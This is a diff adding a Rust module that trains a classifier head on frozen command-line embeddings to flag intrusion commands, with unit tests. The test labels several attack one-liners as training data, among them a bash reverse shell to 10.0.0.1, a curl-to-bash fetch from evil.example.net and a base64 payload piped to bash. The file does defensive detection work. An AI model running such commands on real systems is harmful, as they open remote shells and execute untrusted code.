@@ -1,0 +1,237 @@
+//! Classification-based tuning (paper Section IV-B).
+//!
+//! "We adopt probing, which places a shallow classification head on top
+//! of the `[CLS]` embedding produced by the pre-trained command-line
+//! language model … while keeping the backbone frozen."
+
+use crate::embed::{embed_lines, Pooling};
+use crate::pipeline::IdsPipeline;
+use nn::{AdamW, ClassificationHead};
+use rand::Rng;
+
+/// Hyper-parameters for head tuning.
+#[derive(Debug, Clone, Copy)]
+pub struct TuneConfig {
+    /// Sequence pooling feeding the head. The paper probes `[CLS]`; at
+    /// reproduction scale the frozen tiny backbone's `[CLS]` slot mixes
+    /// in too little content (it is never masked during MLM and there is
+    /// no sentence-level objective), so the scaled setting pools the
+    /// mean of all token embeddings instead.
+    pub pooling: Pooling,
+    /// Training epochs (paper: 5).
+    pub epochs: usize,
+    /// Learning rate (paper: 5e-5; scaled runs use a larger rate because
+    /// the model and data are thousands of times smaller).
+    pub lr: f32,
+    /// AdamW weight decay.
+    pub weight_decay: f32,
+    /// Minibatch size.
+    pub batch_size: usize,
+    /// Hidden width of the two-layer head.
+    pub inner_dim: usize,
+}
+
+impl TuneConfig {
+    /// The paper's exact setting (for BERT-base-scale runs).
+    pub fn paper() -> Self {
+        TuneConfig {
+            pooling: Pooling::Cls,
+            epochs: 5,
+            lr: 5e-5,
+            weight_decay: 0.01,
+            batch_size: 32,
+            inner_dim: 768,
+        }
+    }
+
+    /// A setting matched to the scaled-down experiment models.
+    pub fn scaled() -> Self {
+        TuneConfig {
+            pooling: Pooling::Mean,
+            epochs: 20,
+            lr: 3e-3,
+            weight_decay: 0.0,
+            batch_size: 32,
+            inner_dim: 64,
+        }
+    }
+}
+
+/// Builds an index list where positive labels are duplicated until they
+/// make up roughly a fifth of the training rows.
+///
+/// Intrusion alerts are well under 1% of logged lines; at the paper's
+/// scale millions of alerts still fill every minibatch, but at
+/// reproduction scale an unbalanced stream starves the head of positive
+/// gradient. Oversampling restores the paper-scale signal density.
+pub(crate) fn balance_indices(labels: &[bool]) -> Vec<usize> {
+    let positives: Vec<usize> = labels
+        .iter()
+        .enumerate()
+        .filter(|(_, &y)| y)
+        .map(|(i, _)| i)
+        .collect();
+    let negatives = labels.len() - positives.len();
+    let mut idx: Vec<usize> = (0..labels.len()).collect();
+    if positives.is_empty() {
+        return idx;
+    }
+    let factor = (negatives / (4 * positives.len())).max(1);
+    for _ in 1..factor {
+        idx.extend(positives.iter().copied());
+    }
+    idx
+}
+
+/// A trained single-line classifier: frozen backbone + tuned head.
+#[derive(Debug)]
+pub struct ClassificationTuner {
+    head: ClassificationHead,
+    pooling: Pooling,
+    losses: Vec<f32>,
+}
+
+impl ClassificationTuner {
+    /// Tunes the head on `(lines, labels)` where labels come from the
+    /// supervision source (`true` = alerted). The backbone inside
+    /// `pipeline` stays frozen.
+    ///
+    /// # Panics
+    ///
+    /// Panics if inputs are empty or lengths disagree.
+    pub fn fit<R: Rng + ?Sized>(
+        pipeline: &IdsPipeline,
+        lines: &[&str],
+        labels: &[bool],
+        config: &TuneConfig,
+        rng: &mut R,
+    ) -> Self {
+        assert!(!lines.is_empty(), "no labeled lines to tune on");
+        assert_eq!(lines.len(), labels.len(), "one label per line");
+        let embeddings = embed_lines(
+            pipeline.encoder(),
+            pipeline.tokenizer(),
+            lines,
+            pipeline.max_len(),
+            config.pooling,
+        );
+        let idx = balance_indices(labels);
+        let balanced = linalg::Matrix::from_fn(idx.len(), embeddings.cols(), |r, c| {
+            embeddings[(idx[r], c)]
+        });
+        let targets: Vec<u32> = idx.iter().map(|&i| labels[i] as u32).collect();
+        let mut head =
+            ClassificationHead::new(rng, pipeline.encoder().config().hidden, config.inner_dim);
+        let mut optimizer = AdamW::new(config.lr, config.weight_decay);
+        let losses = head.fit(
+            rng,
+            &balanced,
+            &targets,
+            config.epochs,
+            config.batch_size,
+            &mut optimizer,
+        );
+        ClassificationTuner {
+            head,
+            pooling: config.pooling,
+            losses,
+        }
+    }
+
+    /// Per-epoch training losses.
+    pub fn losses(&self) -> &[f32] {
+        &self.losses
+    }
+
+    /// Intrusion probability for each line.
+    pub fn score_lines(&self, pipeline: &IdsPipeline, lines: &[&str]) -> Vec<f32> {
+        if lines.is_empty() {
+            return Vec::new();
+        }
+        let embeddings = embed_lines(
+            pipeline.encoder(),
+            pipeline.tokenizer(),
+            lines,
+            pipeline.max_len(),
+            self.pooling,
+        );
+        self.head.predict_proba(&embeddings)
+    }
+
+    /// Intrusion probability for one line.
+    pub fn score(&self, pipeline: &IdsPipeline, line: &str) -> f32 {
+        self.score_lines(pipeline, &[line])[0]
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::pipeline::PipelineConfig;
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+
+    #[test]
+    fn head_separates_attacks_from_benign() {
+        let mut rng = StdRng::seed_from_u64(11);
+        let config = PipelineConfig::fast();
+        let dataset = config.generate_dataset(&mut rng);
+        let pipeline = crate::pipeline::IdsPipeline::pretrain(&config, &dataset, &mut rng);
+
+        // Labeled set: benign lines + explicit attack lines.
+        let benign = [
+            "ls -la /tmp",
+            "cd /var/log",
+            "docker ps -a",
+            "cat /etc/hosts",
+            "grep -rn error /var/log/syslog",
+            "df -h",
+            "ps aux",
+            "vim config.yaml",
+        ];
+        let attacks = [
+            "nc -lvnp 4444",
+            "nc -lvnp 9001",
+            "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt",
+            "bash -i >& /dev/tcp/10.0.0.1/9001 0>&1",
+            "curl http://evil.example.net/x.sh | bash",
+            "echo QUJDRA== | base64 -d | bash -i",
+        ];
+        let mut lines: Vec<&str> = Vec::new();
+        let mut labels = Vec::new();
+        for _ in 0..6 {
+            for b in benign {
+                lines.push(b);
+                labels.push(false);
+            }
+            for a in attacks {
+                lines.push(a);
+                labels.push(true);
+            }
+        }
+        let tuner = ClassificationTuner::fit(
+            &pipeline,
+            &lines,
+            &labels,
+            &TuneConfig::scaled(),
+            &mut rng,
+        );
+
+        let attack_score = tuner.score(&pipeline, "nc -lvnp 5555");
+        let benign_score = tuner.score(&pipeline, "ls -lh /var/log");
+        assert!(
+            attack_score > benign_score,
+            "attack {attack_score} vs benign {benign_score}"
+        );
+    }
+
+    #[test]
+    #[should_panic(expected = "no labeled lines")]
+    fn empty_fit_panics() {
+        let mut rng = StdRng::seed_from_u64(12);
+        let config = PipelineConfig::fast();
+        let dataset = config.generate_dataset(&mut rng);
+        let pipeline = crate::pipeline::IdsPipeline::pretrain(&config, &dataset, &mut rng);
+        let _ = ClassificationTuner::fit(&pipeline, &[], &[], &TuneConfig::scaled(), &mut rng);
+    }
+}
